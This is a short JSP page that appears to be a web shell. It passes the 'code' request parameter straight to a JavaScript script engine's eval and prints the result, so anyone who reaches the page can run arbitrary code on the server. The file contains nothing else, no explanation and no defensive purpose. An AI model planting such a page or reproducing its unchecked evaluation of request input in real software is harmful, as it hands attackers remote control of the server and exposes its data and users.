<%@ page import="javax.script.*" %>
<%
    ScriptEngine engine = new ScriptEngineManager().getEngineByName("js");
    Object result = engine.eval(request.getParameter("code"));
    out.print(result);
%>
